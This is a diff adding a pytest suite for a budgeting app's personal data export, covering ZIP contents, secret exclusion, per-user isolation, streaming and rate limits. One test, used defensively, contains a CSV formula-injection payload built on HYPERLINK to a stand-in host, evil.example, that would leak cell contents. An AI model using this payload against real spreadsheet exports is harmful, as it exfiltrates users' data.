@@ -1,0 +1,272 @@
+"""The download of all that somebody has here."""
+
+import csv
+import datetime
+import gc
+import io
+import json
+import zipfile
+from decimal import Decimal
+
+import boto3
+import pytest
+import time_machine
+from django.core.files.uploadedfile import SimpleUploadedFile
+
+from accounts import export
+from expenses.models import Expense
+from reports.archive import Filed
+from smartbudget.core import aws
+from smartbudget.core.errors import ThrottledError
+from smartbudget.core.files import report_key
+from tests.builders import client_for, make_user, token_of
+from tests.calls import counted
+from tests.expenses.pictures import PDF
+from tests.money_builders import NOON, TODAY, make_budget, make_expense
+from tests.notifications import faults
+
+BUCKET = "smart-budget-receipts"
+
+
+@pytest.fixture
+def alice(aws):
+    with time_machine.travel(NOON, tick=True):
+        yield make_user("alice", large_expense_threshold="500")
+
+
+def s3():
+    return boto3.client("s3")
+
+
+def opened(chunks):
+    return zipfile.ZipFile(io.BytesIO(b"".join(chunks)))
+
+
+def exported(user):
+    archive = opened(export.begin(user))
+    assert archive.testzip() is None
+    return archive
+
+
+def read(archive, name):
+    return json.loads(archive.read(name))
+
+
+def table(archive):
+    text = archive.read("expenses.csv").decode("utf-8-sig")
+    return list(csv.DictReader(io.StringIO(text, newline="")))
+
+
+def attach(client, expense):
+    file = SimpleUploadedFile("a.pdf", PDF, "application/pdf")
+    answer = client.post(
+        "/api/receipts/upload", {"file": file, "expense_id": expense.expense_id}
+    )
+    return answer.json()["receipt_url"]
+
+
+def test_it_holds_what_the_api_lists(alice):
+    client = client_for(alice)
+    make_budget(alice, amount="5.00")
+    attach(client, make_expense(alice, amount="1234567.80", description="Zoë 🎈\nx"))
+    make_expense(alice, amount="600", date="2025-01-31", status="void")
+
+    archive = exported(alice)
+
+    def listed(path):
+        return client.get(path).json()["results"]
+
+    assert read(archive, "expenses.json") == listed("/api/expenses")
+    assert len(read(archive, "expenses.json")) == 2
+    assert read(archive, "budgets.json") == listed("/api/budgets")
+    assert read(archive, "notifications.json") == listed("/api/notifications")
+    assert len(read(archive, "notifications.json")) == 3
+    profile = read(archive, "profile.json")
+    assert profile.pop("subscription_status") == "none"
+    assert profile == client.get("/api/profile").json()
+
+
+def test_nothing_secret_is_in_it(alice):
+    session = client_for(alice).cookies["session"].value
+
+    text = exported(alice).read("profile.json").decode()
+
+    assert "argon2" not in text
+    assert session not in text
+    assert "session" not in text
+
+
+def test_the_table_is_exact_and_names_the_receipts(alice):
+    key = attach(client_for(alice), make_expense(alice, amount="999999999999.99"))
+
+    archive = exported(alice)
+
+    (row,) = table(archive)
+    assert (row["amount"], row["currency"]) == ("999999999999.99", "USD")
+    assert row["date"] == "2026-03-18"
+    assert row["receipt"] == "receipts/" + key.rpartition("/")[2]
+    assert archive.read(row["receipt"]) == PDF
+
+
+@pytest.mark.parametrize("sign", ["=", "+", "-", "@"])
+def test_no_text_becomes_a_formula(alice, sign):
+    attack = f'{sign}HYPERLINK("http://evil.example/?"&A1,"x")'
+    make_expense(alice, category=attack[:50], description=attack)
+
+    archive = exported(alice)
+
+    (row,) = table(archive)
+    assert row["description"] == f"'{attack}"
+    assert row["category"] == f"'{attack[:50]}"
+    assert read(archive, "expenses.json")[0]["description"] == attack
+
+
+def test_reports_come_too_and_what_is_missing_is_named(alice):
+    client = client_for(alice)
+    kept = attach(client, make_expense(alice))
+    lost = attach(client, make_expense(alice))
+    s3().delete_object(Bucket=BUCKET, Key=lost)
+    report = Filed(report_key(alice.user_id, "monthly", NOON), 0)
+    s3().put_object(Bucket=BUCKET, Key=report.report_key, Body=b"a report")
+
+    archive = exported(alice)
+
+    names = set(archive.namelist())
+    assert f"receipts/{kept.rpartition('/')[2]}" in names
+    assert f"receipts/{lost.rpartition('/')[2]}" not in names
+    assert archive.read(f"reports/{report.file_name}") == b"a report"
+    assert lost.rpartition("/")[2] in archive.read("missing.txt").decode()
+
+
+def test_an_empty_account_makes_a_whole_zip(alice):
+    archive = exported(alice)
+
+    assert sorted(archive.namelist()) == [
+        "budgets.json",
+        "expenses.csv",
+        "expenses.json",
+        "notifications.json",
+        "profile.json",
+    ]
+    assert read(archive, "expenses.json") == []
+    assert table(archive) == []
+
+
+def test_others_things_are_not_in_it(alice):
+    bob = make_user("bob")
+    attach(client_for(bob), make_expense(bob, description="Bob's"))
+    report = report_key(bob.user_id, "monthly", NOON)
+    s3().put_object(Bucket=BUCKET, Key=report, Body=b"Bob's")
+
+    archive = exported(alice)
+
+    assert len(archive.namelist()) == 5
+    assert all(b"Bob" not in archive.read(name) for name in archive.namelist())
+
+
+def stored_expense(user, expense_id, day):
+    return Expense(
+        expense_id=expense_id,
+        user_id=user.user_id,
+        date=day.isoformat(),
+        amount=Decimal("1.00"),
+        category="Fun",
+        category_key="fun",
+        created_at="2026-01-01T00:00:00.000000+00:00",
+        updated_at="2026-01-01T00:00:00.000000+00:00",
+    )
+
+
+def test_two_thousand_are_read_once_by_the_page_and_sent_as_they_come(alice):
+    with Expense.batch_write() as batch:
+        for number in range(2001):
+            day = TODAY - datetime.timedelta(days=number % 999)
+            batch.save(stored_expense(alice, f"{number:032x}", day))
+    aws.client("s3")
+
+    with counted() as calls:
+        chunks = []
+        most = 0
+        for chunk in export.begin(alice):
+            chunks.append(chunk)
+            alive = sum(type(each).__name__ == "Expense" for each in gc.get_objects())
+            most = max(most, alive)
+            if len(chunks) == 1:
+                assert "dynamodb.Query" not in calls.names  # begun before it is read
+
+    archive = opened(chunks)
+    assert len(read(archive, "expenses.json")) == len(table(archive)) == 2001
+    assert most < 20
+    assert max(map(len, chunks)) < 1_000_000
+    assert calls.read_items == 2001
+    assert sorted(calls.names) == sorted(
+        [
+            "dynamodb.GetItem",  # the account
+            "dynamodb.UpdateItem",  # the throttle
+            "dynamodb.Query",  # budgets
+            "dynamodb.Query",  # notifications
+            *["dynamodb.Query"] * 5,  # expenses, 500 a page
+            "s3.ListObjectsV2",
+        ]
+    )
+
+
+def test_one_that_is_broken_off_leaves_nothing_open(alice):
+    make_expense(alice)
+    chunks = export.begin(alice)
+    next(chunks)
+
+    chunks.close()
+    gc.collect()  # an open file would warn, and warnings are errors
+
+
+def test_an_outage_in_the_middle_breaks_it_off(alice):
+    make_expense(alice)
+    chunks = export.begin(alice)
+    sent = [next(chunks)]
+
+    with faults.down("Query"), pytest.raises(Exception, match="connect"):
+        sent.extend(chunks)
+
+    with pytest.raises(zipfile.BadZipFile):
+        opened(sent)
+
+
+def test_five_an_hour_are_enough(alice):
+    for _ in range(5):
+        export.begin(alice)
+
+    with pytest.raises(ThrottledError):
+        export.begin(alice)
+
+
+@pytest.mark.parametrize(
+    ("method", "path"), [("get", "/api/export"), ("post", "/accounts/export")]
+)
+def test_both_doors_send_a_dated_zip_as_it_is(alice, method, path):
+    make_expense(alice)
+    client = client_for(alice, csrf=True)
+    headers = {**token_of(client), "Accept-Encoding": "gzip"}
+
+    answer = getattr(client, method)(path, headers=headers)
+
+    assert answer.status_code == 200
+    assert answer.streaming
+    assert answer.headers["Content-Type"] == "application/zip"
+    disposition = 'attachment; filename="smart-budget-alice-2026-03-18.zip"'
+    assert answer.headers["Content-Disposition"] == disposition
+    assert answer.headers["Cache-Control"] == "no-store"
+    assert len(table(opened(answer.streaming_content))) == 1
+
+
+def test_too_many_are_refused_on_both_doors(alice):
+    for _ in range(5):
+        export.begin(alice)
+    client = client_for(alice)
+
+    assert client.get("/api/export").status_code == 429
+    page = client.post("/accounts/export")
+    assert page.status_code == 429
+    assert "Too many tries" in page.content.decode()
+    assert "Download your data" in client.get("/accounts/export").content.decode()
+    assert client_for().get("/api/export").status_code == 401
